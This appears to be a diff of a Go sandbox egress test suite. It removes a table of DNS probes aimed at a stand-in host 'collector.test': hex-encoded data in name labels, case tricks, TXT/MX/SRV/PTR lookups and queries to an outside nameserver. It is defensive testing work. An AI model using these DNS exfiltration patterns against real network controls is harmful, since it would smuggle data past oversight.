@@ -3,7 +3,6 @@
 package attack
 
 import (
-	"context"
 	"errors"
 	"fmt"
 	"io"
@@ -192,77 +191,4 @@ func says(address, word string) error {
 		return errors.Join(err, stopped("no answer of the host (%d bytes)", len(b)))
 	}
 	return nil
-}
-
-// names are questions that must not leave the machine.
-func names() []Attack {
-	const twinTries = "resolve a name that is allowed"
-	resolves := func(ask func(ctx context.Context, r *net.Resolver) (int, error), through string) func(*Stage) error {
-		return func(*Stage) error {
-			ctx, cancel := context.WithTimeout(context.Background(), reach)
-			defer cancel()
-			r := &net.Resolver{PreferGo: true}
-			if through != "" {
-				r.Dial = func(ctx context.Context, network, _ string) (net.Conn, error) {
-					return (&net.Dialer{}).DialContext(ctx, network, through)
-				}
-			}
-			n, err := ask(ctx, r)
-			var dns *net.DNSError
-			switch {
-			case errors.As(err, &dns) && dns.IsTimeout:
-				return fmt.Errorf("nobody answers: %s", dns.Err)
-			case errors.As(err, &dns):
-				return stopped("%s", dns.Err)
-			case err == nil && n == 0:
-				return stopped("no data")
-			}
-			return err
-		}
-	}
-	host := func(name string) func(context.Context, *net.Resolver) (int, error) {
-		return func(ctx context.Context, r *net.Resolver) (int, error) {
-			a, err := r.LookupHost(ctx, name)
-			return len(a), err
-		}
-	}
-	twin := func(s *Stage) error {
-		ctx, cancel := context.WithTimeout(context.Background(), reach)
-		defer cancel()
-		_, err := (&net.Resolver{PreferGo: true}).LookupHost(ctx, s.Allowed)
-		return err
-	}
-	table := []struct {
-		name, tries string
-		through     string
-		ask         func(context.Context, *net.Resolver) (int, error)
-	}{
-		{"address", "resolve a name that nobody allowed", "", host("collector.test")},
-		{"label", "carry data out in a name", "", host("63616e617279.6461746120676f6573206f7574.collector.test")},
-		{"case", "resolve it in capitals, with a dot", "", host("COLLECTOR.TEST.")},
-		{"deeper", "resolve a name below one that is allowed", "", host("data.allowed.test")},
-		{"txt", "ask for text", "", func(ctx context.Context, r *net.Resolver) (int, error) {
-			t, err := r.LookupTXT(ctx, "collector.test")
-			return len(t), err
-		}},
-		{"mx", "ask for a mail server", "", func(ctx context.Context, r *net.Resolver) (int, error) {
-			t, err := r.LookupMX(ctx, "collector.test")
-			return len(t), err
-		}},
-		{"srv", "ask for a service", "", func(ctx context.Context, r *net.Resolver) (int, error) {
-			_, t, err := r.LookupSRV(ctx, "https", "tcp", "collector.test")
-			return len(t), err
-		}},
-		{"ptr", "ask for the name of an address", "", func(ctx context.Context, r *net.Resolver) (int, error) {
-			t, err := r.LookupAddr(ctx, "192.0.2.1")
-			return len(t), err
-		}},
-		{"other", "ask another name server", "192.0.2.53:53", host("collector.test")},
-	}
-	var rows []Attack
-	for _, c := range table {
-		rows = append(rows, Attack{Name: "name:" + c.name, Tries: c.tries, Try: resolves(c.ask, c.through), By: noRoute, Twin: twin, TwinTries: twinTries,
-			Needs: func(s *Stage) bool { return s.Allowed != "" }})
-	}
-	return rows
 }
